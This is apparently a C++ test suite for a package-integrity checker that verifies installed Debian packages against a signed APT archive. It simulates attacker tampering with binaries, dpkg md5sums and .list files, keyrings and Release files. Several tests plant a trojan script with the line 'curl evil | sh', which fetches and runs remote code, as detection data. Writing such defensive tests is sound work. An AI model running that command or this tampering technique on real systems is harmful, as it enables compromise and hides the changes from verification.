// The archive anchor on a small signed repository built here (a test key, a Packages index,
// a signed InRelease, a .deb made by dpkg-deb), and on this machine's own packages.
#include "catena/pkg/anchor.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "catena/core/digest.hpp"
#include "catena/core/time.hpp"
#include "support/cache.hpp"
#include "support/dpkg_root.hpp"
#include "support/gpg_key.hpp"
#include "support/matchers.hpp"
#include "support/run.hpp"

namespace catena::pkg {
namespace {

using test::HasError;
using test::IsOk;
using ::testing::HasSubstr;

std::string evidence(const Finding& f, const std::string& key) {
  for (const auto& [k, v] : f.evidence) {
    if (k == key) return v;
  }
  return "<none>";
}

// A signing key made once for the whole suite (key generation is the slow part).
// The test archive's key, made once for the suite.
const test::GpgKey& archive_key() {
  static const test::GpgKey key("catena test archive <archive@example.org>");
  return key;
}

class AnchorTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!archive_key().ok()) CATENA_MISSING() << "gpg cannot make a test key here";
    files_ = {{"/usr/bin/tool", "#!/bin/sh\necho tool\n"},
              {"/usr/share/doc/tool/README", "read me\n"}};
    // The .deb, built by the real dpkg-deb.
    test::TempDir& build = build_;
    build.write("pkg/DEBIAN/control",
                "Package: tool\nVersion: 1.0\nArchitecture: amd64\nMaintainer: T <t@example.org>\n"
                "Description: test\n");
    for (const auto& [path, content] : files_) build.write("pkg" + path, content, 0755);
    ::chmod((build / "pkg").c_str(), 0755);
    deb_ = root_ / "var/cache/apt/archives/tool_1.0_amd64.deb";
    root_.dir().mkdir("var/cache/apt/archives");
    const test::RunResult built = test::run_command(
        {"dpkg-deb", "--root-owner-group", "-Zgzip", "--build", build / "pkg", deb_});
    ASSERT_EQ(built.exit_code, 0) << built.err;
    // The installed package, as dpkg would have recorded it.
    root_.install({.name = "tool", .files = files_});
    write_repository();
  }

  void write_repository(const std::string& packages_override = "",
                        const std::string& release_fields = "") {
    const std::string deb = test::read_file(deb_);
    const std::string packages = packages_override.empty()
                                     ? "Package: tool\nVersion: 1.0\nArchitecture: amd64\n"
                                       "Filename: pool/main/t/tool/tool_1.0_amd64.deb\nSize: " +
                                           std::to_string(deb.size()) +
                                           "\nSHA256: " + test::sha256_hex(deb) + "\n\n"
                                     : packages_override;
    const std::string lists = "var/lib/apt/lists/";
    root_.dir().write(lists + "example.org_debian_dists_test_main_binary-amd64_Packages", packages);
    const std::string release = "Origin: test\nSuite: test\nCodename: test\n" + release_fields +
                                "SHA256:\n " + test::sha256_hex(packages) + " " +
                                std::to_string(packages.size()) + " main/binary-amd64/Packages\n";
    build_.write("Release", release);
    ASSERT_EQ(archive_key().sign_file(build_ / "Release",
                                      root_ / (lists + "example.org_debian_dists_test_InRelease")),
              "");
  }

  VerifyReport anchor() {
    auto report = verify_against_archive({.location = {.root = root_.path()},
                                          .packages = {"tool"},
                                          .keyrings = {archive_key().keyring()}});
    EXPECT_THAT(report, IsOk());
    return report ? *report : VerifyReport{};
  }

  std::vector<std::pair<std::string, std::string>> files_;
  test::FakeDpkgRoot root_;
  test::TempDir build_;
  std::string deb_;
};

TEST_F(AnchorTest, AnUntouchedPackageVerifies) {
  const VerifyReport report = anchor();
  EXPECT_TRUE(report.findings.empty()) << report.findings[0].rule;
  EXPECT_EQ(report.packages, 1u);
  EXPECT_EQ(report.files, 2u);
}

TEST_F(AnchorTest, ATamperedMd5sumsDoesNotHideAModifiedFile) {
  const std::string trojan = "#!/bin/sh\ncurl evil | sh\n";
  root_.dir().write("usr/bin/tool", trojan, 0755);
  // The attacker also rewrites the local database, so dpkg --verify sees nothing.
  root_.dir().write("var/lib/dpkg/info/tool.md5sums", test::md5_hex(trojan) + "  usr/bin/tool\n" +
                                                          test::md5_hex("read me\n") +
                                                          "  usr/share/doc/tool/README\n");
  auto local =
      verify_packages({.location = {.root = root_.path()}, .unowned = false, .repository = false});
  ASSERT_THAT(local, IsOk());
  EXPECT_TRUE(local->findings.empty());

  const VerifyReport report = anchor();
  ASSERT_EQ(report.findings.size(), 1u);
  const Finding& f = report.findings[0];
  EXPECT_EQ(f.rule, "PKG_FILE_MODIFIED");
  EXPECT_EQ(f.path, "/usr/bin/tool");
  EXPECT_EQ(f.severity, Severity::High);
  EXPECT_EQ(evidence(f, "anchor"), "archive");
  EXPECT_EQ(evidence(f, "expected_sha256"), test::sha256_hex(files_[0].second));
  EXPECT_EQ(evidence(f, "sha256"), test::sha256_hex(trojan));
}

// The attacker's key in the inspected root's trusted.gpg.d, and their repository in its lists:
// the root's keyrings are never trust roots, so the repository is not believed, the key is
// reported, and the package is still checked locally.
TEST_F(AnchorTest, TheInspectedRootsOwnKeysAreNotTrusted) {
  if (::access("/usr/share/keyrings/debian-archive-keyring.gpg", R_OK) != 0) {
    CATENA_SKIP_ENVIRONMENT() << "no Debian archive keyring on this machine";
  }
  root_.dir().write("etc/apt/trusted.gpg.d/evil.gpg", test::read_file(archive_key().keyring()));
  root_.dir().write("etc/apt/sources.list.d/evil.sources",
                    "Types: deb\nURIs: http://example.org/debian\nSuites: test\nComponents: "
                    "main\nSigned-By: /etc/apt/keyrings/evil.gpg\n");
  root_.dir().write("etc/apt/keyrings/evil.gpg", test::read_file(archive_key().keyring()));
  auto report = verify_against_archive({.location = {.root = root_.path()}, .packages = {"tool"}});
  ASSERT_THAT(report, IsOk());
  std::map<std::string, int> rules;
  std::set<std::string> trusted_by;
  for (const Finding& f : report->findings) {
    ++rules[f.rule];
    if (f.rule == "PKG_APT_FOREIGN_KEY") {
      trusted_by.insert(evidence(f, "trusted_by"));
      EXPECT_EQ(evidence(f, "uid"), "catena test archive <archive@example.org>");
      EXPECT_EQ(evidence(f, "fingerprint").size(), 40u);
    }
  }
  EXPECT_EQ(rules["ARCHIVE_SIGNATURE_INVALID"], 1);
  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);
  EXPECT_EQ(trusted_by,
            (std::set<std::string>{"/etc/apt/trusted.gpg.d",
                                   "Signed-By in /etc/apt/sources.list.d/evil.sources"}));
  // Given as a trust root by the one who runs catena, the same key is believed and not reported.
  const VerifyReport trusted = anchor();
  for (const Finding& f : trusted.findings) EXPECT_NE(f.rule, "PKG_APT_FOREIGN_KEY");
  EXPECT_EQ(trusted.packages, 1u);
}

// A replayed archive state: a Release past its Valid-Until is not believed (as apt refuses
// it), unless judged at the time an image was taken; an old Date is reported when a maximum
// age is asked for.
TEST_F(AnchorTest, ReplayedReleasesAreNotBelieved) {
  write_repository("",
                   "Date: Mon, 01 Jan 2024 00:00:00 UTC\n"
                   "Valid-Until: Mon, 08 Jan 2024 00:00:00 UTC\n");
  const VerifyReport expired = anchor();
  std::map<std::string, int> rules;
  for (const Finding& f : expired.findings) ++rules[f.rule];
  EXPECT_EQ(rules["ARCHIVE_RELEASE_EXPIRED"], 1);
  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);
  EXPECT_EQ(expired.packages, 0u);
  // Judged on the day the image was taken, the same Release holds.
  auto snapshot = verify_against_archive({.location = {.root = root_.path()},
                                          .packages = {"tool"},
                                          .keyrings = {archive_key().keyring()},
                                          .at_ns = *parse_rfc3339("2024-01-02T00:00:00Z")});
  ASSERT_THAT(snapshot, IsOk());
  EXPECT_TRUE(snapshot->findings.empty()) << snapshot->findings[0].rule;
  EXPECT_EQ(snapshot->packages, 1u);
  // Without Valid-Until, an old Date is reported under a maximum age, and still used.
  write_repository("", "Date: Mon, 01 Jan 2024 00:00:00 UTC\n");
  auto stale = verify_against_archive({.location = {.root = root_.path()},
                                       .packages = {"tool"},
                                       .keyrings = {archive_key().keyring()},
                                       .max_release_age_days = 30});
  ASSERT_THAT(stale, IsOk());
  ASSERT_EQ(stale->findings.size(), 1u);
  EXPECT_EQ(stale->findings[0].rule, "ARCHIVE_RELEASE_STALE");
  EXPECT_EQ(stale->packages, 1u);
}

// A package whose .deb is gone cannot be anchored: it is still checked against the local
// database, so the anchor never finds less than the plain check.
TEST_F(AnchorTest, AnUnanchoredPackageIsStillCheckedLocally) {
  root_.dir().write("usr/bin/tool", "#!/bin/sh\ncurl evil | sh\n", 0755);
  ASSERT_EQ(::unlink(deb_.c_str()), 0);
  const VerifyReport report = anchor();
  std::set<std::string> rules;
  for (const Finding& f : report.findings) {
    rules.insert(f.rule);
    if (f.rule == "PKG_FILE_MODIFIED") {
      EXPECT_EQ(f.path, "/usr/bin/tool");
      EXPECT_THAT(evidence(f, "checked_against"), HasSubstr("local dpkg database"));
    }
  }
  EXPECT_EQ(rules, (std::set<std::string>{"PKG_NOT_ANCHORED", "PKG_FILE_MODIFIED"}));
}

// The attacker trojans a file and deletes it from the package's .list and .md5sums: the .deb
// still installs it, so it is found, checked, and the edited list reported.
TEST_F(AnchorTest, AFileHiddenFromTheListIsFoundThroughTheDeb) {
  const std::string trojan = "#!/bin/sh\ncurl evil | sh\n";
  root_.dir().write("usr/bin/tool", trojan, 0755);
  for (const char* kind : {"list", "md5sums"}) {
    const std::string path = root_ / (std::string("var/lib/dpkg/info/tool.") + kind);
    std::string text = test::read_file(path);
    std::string kept;
    for (size_t at = 0; at < text.size();) {
      const size_t end = std::min(text.find('\n', at), text.size());
      const std::string line = text.substr(at, end - at);
      if (line.find("usr/bin/tool") == std::string::npos) kept += line + "\n";
      at = end + 1;
    }
    root_.dir().write(std::string("var/lib/dpkg/info/tool.") + kind, kept);
  }
  const VerifyReport report = anchor();
  std::set<std::string> rules;
  for (const Finding& f : report.findings) {
    rules.insert(f.rule);
    if (f.rule != "PKG_NOT_ANCHORED") {
      EXPECT_EQ(f.path, "/usr/bin/tool") << f.rule;
    }
  }
  EXPECT_EQ(rules, (std::set<std::string>{"PKG_DATABASE_TAMPERED", "PKG_FILE_MODIFIED"}));
}

TEST_F(AnchorTest, AnIndexThatDiffersFromTheSignedReleaseIsNotTrusted) {
  write_repository();
  // Swap the local index for one that vouches for a different .deb.
  root_.dir().write("var/lib/apt/lists/example.org_debian_dists_test_main_binary-amd64_Packages",
                    "Package: tool\nVersion: 1.0\nArchitecture: amd64\n"
                    "Filename: pool/main/t/tool/tool_1.0_amd64.deb\nSHA256: " +
                        std::string(64, 'a') + "\n\n");
  const VerifyReport report = anchor();
  std::map<std::string, int> rules;
  for (const Finding& f : report.findings) ++rules[f.rule];
  EXPECT_EQ(rules["ARCHIVE_INDEX_MISMATCH"], 1);
  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);
  EXPECT_EQ(report.packages, 0u);
}

TEST_F(AnchorTest, AnUnsignedOrForeignSignedReleaseIsReported) {
  const std::string in_release =
      root_ / "var/lib/apt/lists/example.org_debian_dists_test_InRelease";
  std::string text = test::read_file(in_release);
  const size_t at = text.find("Codename: test");
  ASSERT_NE(at, std::string::npos);
  text.replace(at, 14, "Codename: evil");
  root_.dir().write("var/lib/apt/lists/example.org_debian_dists_test_InRelease", text);
  VerifyReport report = anchor();
  std::map<std::string, int> rules;
  for (const Finding& f : report.findings) ++rules[f.rule];
  EXPECT_EQ(rules["ARCHIVE_SIGNATURE_INVALID"], 1);
  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);

  // The right signature, but a keyring that does not hold its key.
  write_repository();
  test::TempDir other;
  other.write("empty.gpg", "");
  auto foreign = verify_against_archive({.location = {.root = root_.path()},
                                         .packages = {"tool"},
                                         .keyrings = {other / "empty.gpg"}});
  ASSERT_THAT(foreign, IsOk());
  rules.clear();
  for (const Finding& f : foreign->findings) ++rules[f.rule];
  EXPECT_EQ(rules["ARCHIVE_SIGNATURE_INVALID"], 1);
}

TEST_F(AnchorTest, ACachedDebThatDiffersFromTheIndexIsReported) {
  std::string deb = test::read_file(deb_);
  deb[deb.size() / 2] = static_cast<char>(deb[deb.size() / 2] ^ 0x55);
  root_.dir().write("var/cache/apt/archives/tool_1.0_amd64.deb", deb);
  const VerifyReport report = anchor();
  ASSERT_EQ(report.findings.size(), 1u);
  EXPECT_EQ(report.findings[0].rule, "DEB_HASH_MISMATCH");
  EXPECT_EQ(evidence(report.findings[0], "sha256"), test::sha256_hex(deb));
}

TEST(ReadDebFiles, RejectsDamagedArchives) {
  test::TempDir dir;
  dir.write("garbage.deb", "not an archive at all");
  EXPECT_THAT(read_deb_files(dir / "garbage.deb"), HasError(ErrorCode::Parse));
  dir.write("empty-ar.deb", "!<arch>\n");
  EXPECT_THAT(read_deb_files(dir / "empty-ar.deb"), HasError(ErrorCode::Parse));
  // An ar member that claims to be the data archive but holds junk.
  std::string member = "data.tar.gz/    0           0     0     100644  16        `\n";
  member += "0123456789abcdef";
  dir.write("junk-data.deb", "!<arch>\n" + member);
  EXPECT_THAT(read_deb_files(dir / "junk-data.deb"), HasError(ErrorCode::Parse));
}

TEST(Toolchain, SelectsBuildTools) {
  for (const char* name :
       {"gcc-12", "g++", "binutils-x86-64-linux-gnu", "make", "cmake", "git", "dpkg-dev",
        "libc6-dev", "python3.11", "perl-base", "libstdc++-12-dev"}) {
    EXPECT_TRUE(is_toolchain_package(name)) << name;
  }
  for (const char* name : {"libreoffice-core", "vim", "openssh-server", "libgcc-s1-dbg"}) {
    EXPECT_FALSE(is_toolchain_package(name)) << name;
  }
}

// This machine: the .debs of a few installed packages, fetched by scripts/fetch-test-data.sh,
// checked through the real archive keyring, InRelease and Packages index.
TEST(AnchorThisMachine, InstalledPackagesMatchWhatDebianSigned) {
  const char* cache_env = std::getenv("CATENA_TEST_CACHE");
  const std::string cache = cache_env != nullptr && *cache_env != '\0'
                                ? cache_env
                                : std::string(std::getenv("HOME")) + "/.cache/catena-test-data";
  std::vector<std::string> packages;
  for (const char* name : {"make", "aide"}) {
    const test::RunResult version = test::run_command({"dpkg-query", "-W", "-f=${Version}", name});
    if (version.exit_code != 0) continue;
    const test::RunResult found =
        test::run_command({"sh", "-c", std::string("ls ") + cache + "/debs/" + name + "_*.deb"});
    if (found.exit_code == 0) packages.push_back(name);
  }
  if (packages.empty())
    CATENA_MISSING() << "no .deb in " << cache << "/debs (run fetch-test-data.sh)";
  auto report = verify_against_archive({.packages = packages, .deb_dirs = {cache + "/debs"}});
  ASSERT_THAT(report, IsOk());
  for (const Finding& f : report->findings) {
    // What this machine's apt trusts beyond Debian's keys (a cloud image's package mirror) is
    // a fact of the machine, reported and not trusted; it must name the key.
    if (f.rule == "PKG_APT_FOREIGN_KEY") {
      EXPECT_EQ(evidence(f, "fingerprint").size(), 40u) << f.path;
      EXPECT_FALSE(evidence(f, "trusted_by").empty()) << f.path;
      continue;
    }
    ADD_FAILURE() << f.rule << " " << f.path << " " << evidence(f, "package") << " "
                  << evidence(f, "reason");
  }
  EXPECT_EQ(report->packages, packages.size());
  EXPECT_GT(report->files, 0u);
}

}  // namespace
}  // namespace catena::pkg
